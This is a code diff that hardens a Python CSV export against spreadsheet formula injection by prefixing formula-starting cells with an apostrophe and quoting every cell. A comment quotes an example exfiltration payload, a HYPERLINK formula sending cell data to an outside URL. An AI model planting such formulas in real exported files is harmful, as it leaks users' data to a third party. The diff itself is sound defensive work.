@@ -99,12 +99,25 @@ def report_records(cycle: Cycle) -> list[Record]:
             for report in sorted(reports, key=lambda r: r.date)]
 
 
+# What makes a spreadsheet read a cell as a formula (OWASP «CSV Injection»): a text from the
+# data such as «=HYPERLINK("http://…?leak="&A1)» would run when the file is opened.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: str) -> str:
+    """`value` with an apostrophe before a formula-starting character, as OWASP recommends
+    (the spreadsheet then shows the text; the data page says so; JSON keeps it unchanged).
+    A lone «-», the documents' «no deadline», is no formula and stays as approved."""
+    return "'" + value if value.startswith(_FORMULA_START) and value != "-" else value
+
+
 def csv_bytes(records: list[Record], fields: list[str]) -> bytes:
-    """CSV as Excel opens it: UTF-8 with a BOM, comma-separated, CRLF line ends."""
+    """CSV as Excel opens it: UTF-8 with a BOM, comma-separated, CRLF line ends, every cell
+    quoted and no cell a formula."""
     out = io.StringIO(newline="")
-    writer = csv.DictWriter(out, fieldnames=fields, lineterminator="\r\n")
+    writer = csv.DictWriter(out, fieldnames=fields, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
     writer.writeheader()
-    writer.writerows(records)
+    writer.writerows({key: spreadsheet_safe(value) for key, value in record.items()} for record in records)
     return ("\ufeff" + out.getvalue()).encode("utf-8")
 
 
